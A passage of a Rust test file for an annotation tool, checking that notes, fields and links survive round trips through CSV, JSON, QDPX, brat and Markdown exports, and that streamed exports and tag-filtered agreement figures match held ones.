        "\"Two claims, \"\"quoted\"\":\n- a denial; a victim\n\n中文, after an empty line\""
    ));
    if let Some(rows) = python_csv_cells(&csv) {
        let column = rows[0].iter().position(|h| h == "note").unwrap();
        assert_eq!(rows[1][column], note);
        assert!(rows.iter().all(|r| r.len() == rows[0].len()));
    }
    let batch = formats::csv::read(&csv).unwrap();
    first_note_is_it(&batch);

    let json = written(Format::Json);
    let items: Value = serde_json::from_slice(&json).unwrap();
    let bodies = items["first"]["items"][0]["body"].as_array().unwrap();
    let comment = bodies
        .iter()
        .find(|b| b["purpose"] == "commenting")
        .unwrap();
    assert_eq!(comment["value"], note);
    assert_meets_w3c_musts(&json);
    first_note_is_it(&formats::json::read(&json).unwrap());

    let qdpx = written(Format::Qdpx);
    first_note_is_it(
        &formats::qdpx::read(&qdpx, Given::default(), &|n, _| {
            import::document_named(&corpus, n)
        })
        .unwrap(),
    );

    // Imported, it is written as a TOML multi-line string that reads back as the note.
    let (imported, report) = import_into_empty(batch);
    assert!(!report.has_problems(), "{report}");
    let files = files_of(&imported.annotations());
    let toml = &files[0].1;
    assert!(
        toml.contains("note = \"\"\"\nTwo claims, \"quoted\":\n- a denial; a victim\n\n中文, after an empty line\"\"\"\n"),
        "{toml}"
    );
    let parsed: toml::Value = toml::from_str(toml).unwrap();
    assert_eq!(parsed["annotation"][0]["note"].as_str(), Some(note));
}

/// Field values with awkward text (a brat separator, quotes, CJK, a value off the scheme's
/// list), a field the scheme lacks and one named like a CSV column, through each format that
/// carries fields and back: the same values on the same annotation.
#[test]
fn fields_survive_csv_json_brat_and_qdpx_round_trips() {
    let ws = common::Workspace::new(true);
    let path = ws.annotations().join("001_bcba7e35c127046e.txt.toml");
    let mut file = gloss::core::storage::store::load(&path).unwrap().unwrap();
    let values: std::collections::BTreeMap<String, String> = [
        ("speaker", "Long Zhou (周龙), “coordinator” | cyber"),
        ("role", "vice-minister"),
        ("note", "a field, not the note"),
        ("mood", "calm\tand firm"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v.to_owned()))
    .collect();
    file.annotations[0].fields = values.clone();
    std::fs::write(&path, gloss::core::storage::store::to_toml(&file)).unwrap();
    let id = file.annotations[0].id.clone();
    let m = material(&ws);
    let fields_after = |batch: Batch, format: &str| {
        let (imported, report) = import_into_empty(batch);
        assert_eq!(report.added, 7, "{format}: {report}");
        let back = gloss::core::storage::store::load(
            &imported.annotations().join("001_bcba7e35c127046e.txt.toml"),
        )
        .unwrap()
        .unwrap();
        let a = back
            .annotations
            .iter()
            .find(|a| a.quote == file.annotations[0].quote)
            .unwrap();
        assert_eq!(a.fields, values, "{format}");
        let long = back
            .annotations
            .iter()
            .find(|a| a.fields.get("speaker").map(String::as_str) == Some("Long Zhou"));
        assert!(long.is_some(), "{format}: the shipped value beside");
        a.id.clone()
    };
    let mut out = Vec::new();
    formats::write(Format::Csv, &m, Options::default(), &mut out).unwrap();
    assert!(
        text(out.clone())
            .lines()
            .next()
            .unwrap()
            .ends_with(",modified_by,speaker,role,mood,field:note,id")
    );
    assert_eq!(fields_after(formats::csv::read(&out).unwrap(), "csv"), id);
    let mut out = Vec::new();
    formats::write(Format::Json, &m, Options::default(), &mut out).unwrap();
    assert_eq!(fields_after(formats::json::read(&out).unwrap(), "json"), id);
    let qdpx = formats::qdpx::to_bytes(&m, Options::default()).unwrap();
    assert_valid_refi_qda(&qdpx);
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let batch = formats::qdpx::read(&qdpx, Given::default(), &|n, _| {
        import::document_named(&corpus, n)
    })
    .unwrap();
    assert_eq!(fields_after(batch, "qdpx"), id);
    let dir = tempfile::tempdir().unwrap();
    formats::write_to(Format::Brat, &m, Options::default(), dir.path()).unwrap();
    let conf = std::fs::read_to_string(dir.path().join("annotation.conf")).unwrap();
    assert!(
        conf.contains("\nrole\tArg:<ENTITY>, Value:top__leader|"),
        "{conf}"
    );
    assert!(
        conf.contains("|vice-minister\n"),
        "a value off the list is declared: {conf}"
    );
    fields_after(
        formats::brat::read(dir.path(), Given::default()).unwrap(),
        "brat",
    );
}

/// A corpus made here beside the shipped one: `n` documents, each with a few annotations by two
/// coders, tagged in and outside the scheme or not at all; one document edited after it was
/// annotated (its annotations moved, one no longer placeable) and one that is not text.
fn generated(ws: &common::Workspace, n: usize) {
    let (root, notes) = (ws.corpus(), ws.annotations());
    std::fs::create_dir_all(root.join("generated")).unwrap();
    std::fs::create_dir_all(notes.join("generated")).unwrap();
    for d in 0..n {
        let rel = format!("generated/doc{d:03}.txt");
        let text: String = (0..12)
            .map(|s| format!("Sentence {s} of document {d} says “claim {}”. ", s * d))
            .collect();
        let mut file = format!(
            "format = 1\ndocument = \"{rel}\"\ncontent_hash = \"{}\"\n",
            gloss::core::documents::text::content_hash(&text)
        );
        for a in 0..(d % 5) {
            let quote = format!("Sentence {} of document {d}", a * 2);
            let start = text[..text.find(&quote).unwrap()].chars().count();
            let tags = ["[\"denial\"]", "[\"accusation\", \"made-up\"]", "[]"][a % 3];
            let coder = ["ann", "bob"][(a + d) % 2];
            file.push_str(&format!(
                "\n[[annotation]]\nid = \"g-{d}-{a}\"\nstart = {start}\nend = {}\ntags = {tags}\n\
                 note = \"n{a}\"\nquote = \"{quote}\"\nannotator = \"{coder}\"\n\
                 created = \"2026-01-02T03:04:05Z\"\nmodified = \"2026-01-02T03:04:05Z\"\n",
                start + quote.chars().count()
            ));
            // Fields, one the scheme has and one it lacks, on some annotations.
            if a % 2 == 1 {
                file.push_str(&format!(
                    "[annotation.fields]\nspeaker = \"s{}\"\nmanner = \"m{a}\"\n",
                    d % 3
                ));
            }
            // Links within the document and to the next one (whose first annotation may not
            // exist, or not be exported).
            if a > 0 {
                file.push_str(&format!(
                    "\n[[annotation.links]]\ntype = \"denies\"\nto = \"g-{d}-0\"\n\n\
                     [[annotation.links]]\ntype = \"same claim as\"\nto = \"g-{}-0\"\n",
                    d + 1
                ));
            }
        }
        std::fs::write(root.join(&rel), &text).unwrap();
        std::fs::write(notes.join(format!("{rel}.toml")), file).unwrap();
    }
    let edited = root.join("generated/doc004.txt");
    let text = std::fs::read_to_string(&edited).unwrap();
    let text = format!(
        "A line put first. {}",
        text.replace("Sentence 6 of", "Line 6 of")
    );
    std::fs::write(&edited, text).unwrap();
    std::fs::write(root.join("generated/binary.txt"), b"\x89PNG\x00\x01\x02").unwrap();
}

/// Every format's bytes, written from `m` (brat's files listed in order, a CSV followed by its
/// links file), with what each left out.
fn every_export(m: &Material) -> Vec<(Format, Vec<u8>, Vec<String>)> {
    Format::ALL
        .iter()
        .map(|&format| {
            let bytes = match format {
                Format::Brat => formats::brat::files(m)
                    .map(|f| {
                        let (rel, contents) = f.unwrap();
                        format!("=== {rel}\n{contents}")
                    })
                    .collect::<String>()
                    .into_bytes(),
                Format::Csv => {
                    let (mut out, mut links) = (Vec::new(), b"=== links\n".to_vec());
                    formats::csv::write_with_links(m, Options::default(), &mut out, &mut links)
                        .unwrap();
                    out.extend(links);
                    out
                }
                format => {
                    let mut out = Vec::new();
                    formats::write(format, m, Options::default(), &mut out).unwrap();
                    out
                }
            };
            (format, bytes, m.all_left_out())
        })
        .collect()
}

#[test]
fn a_streamed_export_reading_one_document_at_a_time_equals_one_of_the_whole_corpus_held() {
    let ws = common::Workspace::new(true);
    generated(&ws, 40);
    let scopes = [
        Scope::default(),
        Scope {
            documents: Vec::new(),
            tags: vec!["accusation".into()],
        },
    ];
    for scope in &scopes {
        for coders in [vec![], vec!["bob".to_owned()]] {
            let held_corpus = Corpus::open(&ws.corpus(), None).unwrap();
            let mut held = Material::collect(&held_corpus, scope).unwrap();
            formats::coders::keep(&mut held, &coders).unwrap();
            let listed = Corpus::listed(&ws.corpus(), None).unwrap();
            let mut streamed = Material::stream(&listed, scope).unwrap();
            assert!(
                streamed.docs.is_empty(),
                "nothing is read before it is written"
            );
            formats::coders::keep(&mut streamed, &coders).unwrap();
            for ((format, a, held_out), (_, b, streamed_out)) in
                every_export(&held).into_iter().zip(every_export(&streamed))
            {
                assert!(a == b, "{format:?}, {scope:?}, {coders:?}:\n{}", text(b));
                assert_eq!(held_out, streamed_out, "{format:?}");
                if format == Format::Csv && scope.tags.is_empty() {
                    assert!(text(b).contains(",g-2-1,denies,"));
                }
            }
            assert_eq!(held.counts(), streamed.counts());
            assert_eq!(held.all_left_out(), streamed.all_left_out());
            let left_out = streamed.all_left_out().join("\n");
            assert!(left_out.contains("binary.txt"), "{left_out}");
            if coders.is_empty() && scope.tags.is_empty() {
                assert!(left_out.contains("g-4-3"), "{left_out}");
            }
        }
    }
    // The streamed CSV's header, written before any document is, names the field only the
    // generated annotations use, and their values are in the rows.
    let listed = Corpus::listed(&ws.corpus(), None).unwrap();
    let streamed = Material::stream(&listed, &Scope::default()).unwrap();
    let mut out = Vec::new();
    formats::write(Format::Csv, &streamed, Options::default(), &mut out).unwrap();
    let csv = text(out);
    assert!(
        csv.lines()
            .next()
            .unwrap()
            .ends_with(",modified_by,speaker,role,manner,id"),
        "{csv}"
    );
    assert!(csv.contains(",s2,,m1,g-2-1"), "{csv}");
}

/// The md report's agreement over a tag filter counts every annotation of the coders, as
/// `gloss agree --tags` does: a coder who coded a document without the tag said "not this tag"
/// on its sentences, so that document is compared (the filter would have hidden her coding).
#[test]
fn the_md_reports_agreement_under_a_tag_filter_uses_every_annotation() {
    use gloss::core::annotation::Annotation;
    use gloss::core::documents::text::{CharIndex, canonicalize, content_hash};
    use gloss::core::storage::store::{self, AnnotationFile};
    let ws = common::Workspace::new(false);
    let write = |rel: &str, coded: &[(&str, usize, &str)]| {
        let text = canonicalize(&std::fs::read(ws.corpus().join(rel)).unwrap()).unwrap();
        let index = CharIndex::new(&text);
        let s = gloss::core::documents::sentences::split(&text);
        let annotations = coded
            .iter()
            .map(|&(coder, n, tag)| {
                let stamp = Stamp {
                    annotator: coder.into(),
                    time: "2026-01-01T00:00:00Z".into(),
                };
                Annotation::new(&text, &index, s[n].clone(), vec![tag.into()], &stamp)
            })
            .collect();
        let path = store::annotation_path(&ws.annotations(), rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let file = AnnotationFile {
            document: rel.into(),
            content_hash: content_hash(&text),
            annotations,
            extra: Vec::new(),
        };
        std::fs::write(&path, store::to_toml(&file)).unwrap();
    };
    write(
        "000_073045cb8793dce5.txt",
        &[("alice", 0, "accusation"), ("bob", 0, "accusation")],
    );
    // Alice coded the second document, with another tag: "not an accusation" there.
    write(
        "001_bcba7e35c127046e.txt",
        &[("alice", 0, "denial"), ("bob", 0, "accusation")],
    );
    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
    let scope = Scope {
        documents: Vec::new(),
        tags: vec!["accusation".into()],
    };
    let report = |m: &Material| {
        let mut out = Vec::new();
        formats::write(Format::Md, m, Options::default(), &mut out).unwrap();
        text(out)
    };
    let md = report(&Material::collect(&corpus, &scope).unwrap());
    assert!(
        md.contains("Coders: alice, bob; documents coded by two or more: 2."),
        "{md}"
    );
    // As `gloss agree --tags accusation` computes it.
    let all = Material::collect(&corpus, &Scope::default()).unwrap();
    let agreed = all
        .agreement(&gloss::core::agreement::Request {
            coders: Vec::new(),
            scope: gloss::core::agreement::Scope::Tags(vec!["accusation".into()]),
        })
        .unwrap();
    let alpha = agreed
        .rows
        .iter()
        .find(|r| r.measure == gloss::core::agreement::Measure::Alpha)
        .unwrap();
    let value = gloss::core::agreement::render::value(&alpha.figure);
    assert!(
        md.contains(&format!(
            "| tag accusation | alpha | alice, bob | {} ",
            alpha.units
        )),
        "{md}"
    );
    assert!(md.contains(&format!(" | {value} |")), "{md}");
    // Streamed as `gloss export` does, the same.
    let streamed = Material::stream(&corpus, &scope).unwrap();
    assert!(report(&streamed).contains("documents coded by two or more: 2."));
}
